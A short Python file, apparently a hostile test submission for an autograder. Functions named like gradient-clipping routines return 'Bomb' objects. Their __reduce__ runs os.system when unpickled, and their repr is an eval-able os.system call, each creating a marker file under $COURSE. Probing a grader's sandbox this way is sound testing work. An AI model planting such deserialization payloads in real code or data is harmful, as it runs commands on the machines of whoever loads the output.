"""Return objects that run code where somebody unpickles, copies, prints or compares them."""

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch $COURSE/exploded",)

    def __reduce_ex__(self, protocol):
        return self.__reduce__()

    def __repr__(self):
        return "__import__('os').system('touch $COURSE/exploded')"

    __str__ = __repr__
    __index__ = __int__ = lambda self: 3
    __float__ = lambda self: 3.0


def clip_by_value(grad, clip_value):
    return Bomb(), Bomb()


def clip_by_norm(grad, max_norm):
    return {"__reduce__": ["os.system", "touch $COURSE/exploded"], "__class__": "Bomb"}
